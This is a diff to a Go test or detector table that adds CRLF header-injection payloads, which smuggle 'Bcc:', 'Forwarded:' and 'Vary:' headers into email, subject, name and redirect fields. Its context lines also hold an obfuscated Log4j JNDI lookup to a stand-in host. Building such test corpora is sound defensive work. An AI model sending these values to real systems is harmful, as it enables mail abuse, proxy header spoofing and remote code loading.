@@ -34,6 +34,17 @@ func init() {
 		attackEntry{lF, "email", "a@b.example\r\n\r\nInjected body spam", "mail-header-injection", encURL},
 		attackEntry{lF, "email", "a@b.example\u560a\u560dBcc:v@x.example", "mail-header-injection", encURL},
 		attackEntry{lF, "email", `%22attacker%5Cr%5CnRCPT%20TO%3Avictim%22%40x.example`, "mail-header-injection", 0},
+		// A first line that looks like a header is no whole message in a
+		// subject or a name; list-named address fields.
+		attackEntry{lF, "subject", "Re: hello\r\nBcc: victims@list.example", "mail-header-injection", encURL},
+		attackEntry{lF, "email", "mailto: a@b.example\r\nBcc: v@x.example", "mail-header-injection", encURL},
+		attackEntry{lF, "name", "Attn: Bob\r\nBcc: v@x.example", "mail-header-injection", encURL},
+		attackEntry{lJ, "to_addresses", "a@b.example\r\nBcc: v@x.example", "mail-header-injection", 0},
+		attackEntry{lJ, "cc_emails", "a@b.example\r\nBcc: v@x.example", "mail-header-injection", 0},
+		attackEntry{lJ, "subject_line", "Hi\r\nBcc: v@x.example", "mail-header-injection", 0},
+		// One-word headers a proxy acts on, after words.
+		attackEntry{lQ, "next", "/home x\r\nForwarded: for=127.0.0.1;host=admin", "crlf-injection", encURL},
+		attackEntry{lQ, "next", "/a b\r\nVary: x\r\n\r\nX", "crlf-injection", encURL},
 		// Log4j: an empty date pattern spells nothing; the lookups that
 		// recurse until the stack overflows (CVE-2021-45105).
 		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
